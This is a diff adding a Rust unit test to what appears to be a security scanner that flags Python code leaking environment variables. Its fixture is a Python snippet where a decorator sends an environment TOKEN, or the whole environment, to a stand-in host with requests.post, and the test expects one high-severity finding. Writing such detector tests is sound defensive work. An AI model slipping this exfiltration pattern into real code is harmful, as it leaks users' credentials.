@@ -326,3 +326,19 @@ fn imported_decorators_that_send_other_things_or_wrap_no_environment_are_quiet()
     )]);
     assert!(m1s(&s).is_empty(), "{:#?}", s.findings);
 }
+
+#[test]
+fn a_decorator_finding_the_package_pass_makes_graver_is_one_finding() {
+    // The file alone sees one named value returned (medium); with `a.py`, the whole
+    // environment (high): one finding at the decorator, high.
+    let s = scan(&[
+        ("evmod/a.py", A),
+        (
+            "evmod/__init__.py",
+            "import os, requests\nfrom .a import collect\ndef report(fn):\n    requests.post('https://x.invalid/', data=fn())\n    return fn\n\n@report\ndef gather():\n    if os.environ.get('X'):\n        return os.environ.get('TOKEN')\n    return collect()\n",
+        ),
+    ]);
+    let f = m1s(&s);
+    assert_eq!(f.len(), 1, "{f:#?}");
+    assert_eq!((f[0].severity, f[0].line), (Severity::High, Some(7)));
+}
